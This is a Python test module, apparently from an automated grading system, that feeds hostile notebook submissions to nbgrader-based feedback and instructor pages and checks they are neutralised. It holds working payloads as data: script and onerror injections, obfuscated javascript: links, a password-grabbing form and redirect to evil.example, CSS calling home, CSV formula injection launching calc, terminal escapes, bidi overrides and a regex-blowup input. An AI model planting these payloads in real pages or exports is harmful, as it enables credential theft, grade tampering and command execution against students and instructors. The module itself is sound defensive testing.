"""Attacks on who reads the results: active content in pages that students and instructors open."""

import base64
import csv
import json
import re
import subprocess
import sys
import time
import warnings
from html.parser import HTMLParser
from types import SimpleNamespace

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from nbgrader.server_extensions.formgrader.handlers import template_path
from traitlets.config import Config, Configurable

from attacks.harness import TRIPLE_ONLY, Attack, code, markdown, notebook, submission
from llmlab.grading.export import CheckedCsvExport
from llmlab.grading.feedback import feedback_page
from llmlab.grading.graded import graded_notebook
from llmlab.grading.notebooks import read_cells

ACTIVE = {"script", "iframe", "frame", "object", "embed", "form", "base", "link", "style", "meta", "svg", "math", "template", "audio", "video"}  # fmt: skip
ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "srcdoc", "data", "poster", "background", "ping"}
HARMLESS_ADDRESS = re.compile(
    r"https?://|#|/|\.|data:image/png;base64,[A-Za-z0-9+/=]+$|(?![a-z][a-z0-9+.-]*:)", re.IGNORECASE
)


class Active(HTMLParser):
    """What of a page does something: active elements with their content, handlers, addresses that are no web page's."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.found, self._inside = set(), ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self._inside = tag if tag in ("script", "style") else ""
        if tag in ACTIVE:
            self.found.add((tag, *attributes))
        for name, value in attributes:
            address = re.sub(r"[\x00-\x20]", "", value or "")  # as browsers do
            if name.startswith("on") or (name in ADDRESSES and not HARMLESS_ADDRESS.match(address)):
                self.found.add((tag, name, value))
            if name == "style" and re.search(r"url|expression|position|import", value or "", re.IGNORECASE):
                self.found.add((tag, name, value))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self._inside:
            self.found.add((self._inside, data))

    def handle_endtag(self, tag):
        self._inside = ""


def render(page, template="formgrade"):
    """A notebook as nbgrader's formgrader shows it."""
    config = Config()
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [template_path]
    shown = {
        "assignment_id": "toy", "notebook_id": "toy", "submission_id": "1", "index": 0, "total": 1, "base_url": "",
        "student": "student", "last_name": "", "first_name": "", "notebook_path": "toy.ipynb",
    }  # fmt: skip
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return HTMLExporter(config=config).from_notebook_node(page, resources=shown)[0]


def pages(result, ground):
    """What the student is sent, and what the instructor sees."""
    return feedback_page(result), render(graded_notebook(result, read_cells(ground.instructor.encode())))


def nothing_active(result, ground):
    """Nothing does anything that does not on the pages of the same result without a cell."""
    for page, bare in zip(pages(result, ground), pages({**result, "cells": []}, ground), strict=True):
        assert Active(page).found <= Active(bare).found


def contained(result, ground):
    assert result["score"] == TRIPLE_ONLY
    nothing_active(result, ground)


def plain_page(text):
    """The submitted notebook as nbconvert shows it, with the outputs that are stored in it."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return render(nbformat.reads(text, 4))


def active_in_plain_page(text, *tags):
    def bites(ground):
        found = Active(plain_page(text)).found - Active(plain_page(submission())).found
        assert {f[0] for f in found} & set(tags), found

    return bites


def with_cells(*cells):
    return notebook([*json.loads(submission())["cells"], *cells])


def with_output(source, data):
    """A cell that shows something, with the same stored as its output."""
    output = {"output_type": "display_data", "data": data, "metadata": {}}
    return with_cells({**code(source), "outputs": [output]})


def shows(data):
    return with_output(f"from IPython.display import display\ndisplay({data!r}, raw=True)", data)


SCRIPT = "<script>parent.grade = 100</script>"
HANDLER = "<img src=x onerror=alert(1)>"
MARKDOWN = {
    "HTML with a script in markdown": (f"# Answer\n\n{SCRIPT} {HANDLER}", ("script", "img")),
    "frames and objects in markdown": (
        '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>\n<object data="x.swf"></object>\n<embed src="x">',
        ("iframe", "object", "embed"),
    ),
    "a page that sends its reader away": ('<meta http-equiv="refresh" content="0; url=//evil.example">', ("meta",)),
    "a form over the page": (
        '<form action="//evil.example"><input name="password" style="position:fixed;inset:0"></form>', ("form",),
    ),
    "a style sheet that hides a page and calls home": (
        "<style>body { display: none; background: url(//evil.example) }</style>", ("style",),
    ),
    "a link to javascript": ("[my proof](javascript:alert(1))", ("a",)),
    "a definition of a link to javascript": ("[my proof][p]\n\n[p]: <JavaScript:alert(1)> 'proof'", ("a",)),
    "a link to a page in its own address": ("[my proof](data:text/html;base64,PHNjcmlwdD4x)", ("a",)),
    "a link to javascript with a backslash before the colon": (r"[my proof](javascript\:alert(1))", ("a",)),
    "a link to javascript broken between lines of a quotation": ("> [my proof](\n> javascript:alert(1))", ("a",)),
    "a definition broken between lines of a quotation": ("> [p]:\n> javascript:alert(1)\n\n[p]", ("a",)),
    "a link to javascript with a letter by its number": ("[my proof](j&#97;vascript:alert(1))", ("a",)),
    "a link to javascript with a colon by its name": ("[my proof](javascript&colon;alert(1))", ("a",)),
    "HTML in a diagram": (f"```mermaid\ngraph TD\n{SCRIPT}\n```", ("script",)),
}  # fmt: skip


def markdown_attack(name, source, tags):
    text = with_cells(markdown(source))
    return Attack("feedback", name, lambda ground: text, contained, active_in_plain_page(text, *tags))


SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PICTURE = {"image/png": base64.b64encode(SVG.encode()).decode() + '"><script>alert(1)</script><img src="'}
ACTIVE_OUTPUT = {"text/html": SCRIPT, "application/javascript": "alert(1)", "image/svg+xml": SVG}
PRINTED = submission(before=f"print({SCRIPT!r})", after=f"import sys\nprint({HANDLER!r}, file=sys.stderr)")
NAMED = submission(after=f"raise type({SCRIPT!r}, (Exception,), {{}})({HANDLER!r})")
RETURNED = submission(f"def double(n):\n    return {SCRIPT!r}")
RAISED = submission(f"def double(n):\n    raise type({SCRIPT!r}, (Exception,), {{}})({HANDLER!r})")
OBJECT = submission(f"class Odd:\n    def __repr__(self): return {SCRIPT!r}\n\nOdd.__qualname__ = {HANDLER!r}\n\ndef double(n):\n    return Odd()")  # fmt: skip
SOURCE = submission(f"def double(n):\n    '''</code></pre>{SCRIPT}</script>'''\n    return 7  # {HANDLER}")
MEASURED = submission(before=f"""
from llmlab.grading.checks import measured
measured({SCRIPT!r}, 1, 2, {HANDLER!r})
""")  # fmt: skip


def pasted(show):
    """Who pastes the text into a page as it is has a script in it."""

    def bites(ground):
        assert Active(f"<pre>{show(ground)}</pre>").found

    return bites


def value_of(text):
    """What the student's `double` returns or raises."""
    names = {}
    for cell in json.loads(text)["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "double":
            exec(cell["source"], names)
    try:
        return repr(names["double"](1))
    except Exception as error:  # noqa: BLE001  its name and message are what is looked at
        return f"{type(error).__name__}: {error}"


def shown_somewhere(text_shown):
    """The text is on the student's page, as text."""

    def check(result, ground):
        contained(result, ground)
        assert text_shown in Text(feedback_page(result)).text

    return check


class Text(HTMLParser):
    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.feed(page)
        self.close()

    def handle_data(self, data):
        self.text += data


def measured_contained(result, ground):
    contained(result, ground)
    assert result["measurements"][0]["name"] == SCRIPT


ESCAPES = "\x1b]0;title\x07\x1b[2J\x1b]8;;javascript:alert(1)\x1b\\100 points\x1b]8;;\x1b\\\x1b[8m\x9b31m\x08\x08\r"
ESCAPED = submission(f"def double(n):\n    return {ESCAPES!r}", before=f"print({ESCAPES!r})\nraise ValueError({ESCAPES!r})")  # fmt: skip


def escapes_contained(result, ground):
    contained(result, ground)
    notebook_file = nbformat.v4.writes(graded_notebook(result, read_cells(ground.instructor.encode())))
    for text in (feedback_page(result), notebook_file):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


def escapes_bite(ground):
    assert "\x1b]8;;" in ground.plain(ESCAPED)["outputs"]


# Where the override stands, letters run from right to left: "7 # 2 * n" reads otherwise than it runs.
OVERRIDE = "\u202e\u2066"
OVERRIDDEN = notebook([*json.loads(submission(f"def double(n):\n    return 7 #{OVERRIDE} n * 2"))["cells"], code(f"print('{OVERRIDE}stniop 001')"), markdown(f"{OVERRIDE}stniop 001")])  # fmt: skip


def overrides_contained(result, ground):
    contained(result, ground)
    for page in pages(result, ground):
        assert not set(OVERRIDE) & set(page)


def overrides_bite(ground):
    assert OVERRIDE in plain_page(OVERRIDDEN)


STUDENT = f'"><{HANDLER[1:]}</title>{SCRIPT}'


def student_contained(result, ground):
    nothing_active({**result, "student": STUDENT}, ground)


def student_bites(ground):
    assert Active(f"<title>{STUDENT}</title>").found
    assert Active(f'<a href="/{STUDENT}">').found


FORMULAS = ("=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1")


def exported(ground, plugin):
    """The student ids of nbgrader's export with these students."""
    gradebook = Gradebook(f"sqlite:///{ground.folder}/gradebook.db")
    try:
        gradebook.add_assignment("toy")
        for formula in FORMULAS:
            gradebook.add_student(formula)
        parent = Configurable()
        parent.coursedir = SimpleNamespace(root=str(ground.folder))
        plugin(parent=parent, to=str(ground.folder / "grades.csv")).export(gradebook)
    finally:
        gradebook.close()
    with (ground.folder / "grades.csv").open(newline="") as file:
        return [row["student_id"] for row in csv.DictReader(file)]


def formulas_contained(result, ground):
    for student in exported(ground, CheckedCsvExport):
        assert student[:1] not in tuple("=+-@\t\r")


def formulas_bite(ground):
    assert "=cmd|' /C calc'!A0" in exported(ground, CsvExportPlugin)


# nbconvert raises on a picture that is not attached: the whole submission could not be looked at.
UNATTACHED = with_cells(markdown(r"![a picture](attachment\:picture.png)"))


def unattached_bites(ground):
    from nbconvert.filters.markdown_mistune import InvalidNotebook

    with pytest.raises(InvalidNotebook):
        plain_page(UNATTACHED)


# A hundred thousand blanks where a link's target may follow: a pattern that tries each way of splitting them never ends.
BLANKS = with_cells(markdown("[p]:" + " " * 100_000))
PAGES = """
import json, sys
from llmlab.grading.feedback import feedback_page
from llmlab.grading.graded import graded_notebook
result = json.load(sys.stdin)
feedback_page(result), graded_notebook(result, [])
"""


def blanks_contained(result, ground):
    assert result["score"] == TRIPLE_ONLY
    subprocess.run([sys.executable, "-c", PAGES], input=json.dumps(result).encode(), timeout=10, check=True)


def blanks_bite(ground):
    """Twice the blanks take four times as long."""
    pattern = re.compile(r"\]:\s*<?\s*[a-z]+\s*:")
    took = []
    for blanks in (4000, 8000):
        start = time.perf_counter()
        pattern.search("]:" + " " * blanks)
        took.append(time.perf_counter() - start)
    assert took[1] > 3 * took[0]


ATTACKS = [
    *(markdown_attack(name, *what) for name, what in MARKDOWN.items()),
    Attack(
        "feedback", "a picture that is none", lambda g: shows(PICTURE), contained,
        active_in_plain_page(shows(PICTURE), "img"),
    ),
    Attack(
        "feedback", "outputs of HTML, JavaScript and SVG", lambda g: shows(ACTIVE_OUTPUT), contained,
        active_in_plain_page(shows(ACTIVE_OUTPUT), "script"),
    ),
    Attack(
        "feedback", "HTML that a cell prints", lambda g: PRINTED, shown_somewhere(HANDLER),
        pasted(lambda g: g.plain(PRINTED)["outputs"]),
    ),
    Attack(
        "feedback", "HTML in the name of an error", lambda g: NAMED, shown_somewhere(SCRIPT),
        pasted(lambda g: g.plain(NAMED)["outputs"]),
    ),
    Attack(
        "feedback", "HTML in a returned value", lambda g: RETURNED, shown_somewhere(SCRIPT),
        pasted(lambda g: value_of(RETURNED)),
    ),
    Attack(
        "feedback", "HTML in what an answer raises", lambda g: RAISED, shown_somewhere(SCRIPT),
        pasted(lambda g: value_of(RAISED)),
    ),
    Attack(
        "feedback", "HTML in an object's repr and type", lambda g: OBJECT, shown_somewhere(SCRIPT),
        pasted(lambda g: value_of(OBJECT)),
    ),
    Attack(
        "feedback", "HTML that closes the element around the code", lambda g: SOURCE, shown_somewhere(SCRIPT),
        pasted(lambda g: SOURCE),
    ),
    Attack(
        "feedback", "HTML in the name of a measurement", lambda g: MEASURED, measured_contained,
        pasted(lambda g: g.plain(MEASURED)["outputs"]),
    ),
    Attack("feedback", "escape codes for a terminal", lambda g: ESCAPED, escapes_contained, escapes_bite),
    Attack("feedback", "text that runs from right to left", lambda g: OVERRIDDEN, overrides_contained, overrides_bite),
    Attack("feedback", "HTML in a student's id", lambda g: submission(), student_contained, student_bites),
    Attack("feedback", "formulas in students' ids", lambda g: submission(), formulas_contained, formulas_bite),
    Attack("feedback", "a picture that is not attached", lambda g: UNATTACHED, contained, unattached_bites),
    Attack("feedback", "a hundred thousand blanks in a link", lambda g: BLANKS, blanks_contained, blanks_bite),
]  # fmt: skip
